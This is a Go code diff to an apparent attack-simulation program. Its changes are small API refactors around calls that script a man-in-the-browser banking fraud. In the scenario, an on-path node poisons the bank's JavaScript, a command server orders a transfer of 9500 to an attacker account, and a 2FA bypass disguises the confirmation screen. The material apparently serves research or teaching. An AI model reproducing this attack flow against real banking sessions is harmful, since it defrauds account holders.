@@ -31,7 +31,7 @@ func main() {
 }
 
 func run() error {
-	s, err := core.NewScenario(core.Config{Profile: "Chrome"})
+	s, err := core.NewScenario(core.Config{})
 	if err != nil {
 		return err
 	}
@@ -62,7 +62,7 @@ func run() error {
 
 	// The user logs in at the bank (the infection happens on this visit:
 	// the master is on-path and poisons /js/bank.js).
-	page, err := s.VisitWith(s.Victim, bank.Host, "/", wired)
+	page, err := s.VisitWith(bank.Host, "/", wired)
 	if err != nil {
 		return err
 	}
@@ -77,7 +77,7 @@ func run() error {
 	s.CNC.QueueCommand("bot-h", []byte("transaction-manipulation|iban=XX99 ATTACKER,amount=9500"))
 
 	// Alice transfers 50 EUR to grandma.
-	page, err = s.VisitWith(s.Victim, bank.Host, "/", wired)
+	page, err = s.VisitWith(bank.Host, "/", wired)
 	if err != nil {
 		return err
 	}
@@ -91,7 +91,7 @@ func run() error {
 	// The confirmation screen: the parasite rewrites the displayed
 	// details so alice sees her intended transfer.
 	s.CNC.QueueCommand("bot-h", []byte("bypass-2fa|Transfer 50 EUR to DE22 GRANDMA"))
-	confirm, err := s.VisitWith(s.Victim, bank.Host, "/confirm", wired)
+	confirm, err := s.VisitWith(bank.Host, "/confirm", wired)
 	if err != nil {
 		return err
 	}
